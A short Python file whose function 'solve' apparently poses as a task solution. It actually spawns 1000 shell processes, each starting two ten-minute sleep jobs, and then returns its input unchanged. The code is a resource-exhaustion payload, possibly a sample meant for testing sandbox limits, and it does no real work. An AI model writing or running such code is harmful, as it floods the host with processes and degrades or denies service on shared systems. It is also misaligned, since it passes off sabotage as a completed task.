"""Starts shells in a loop."""

import subprocess


def solve(x, where):
    for _ in range(1000):
        subprocess.Popen(["/bin/sh", "-c", "sleep 600 & sleep 600"])
    return x
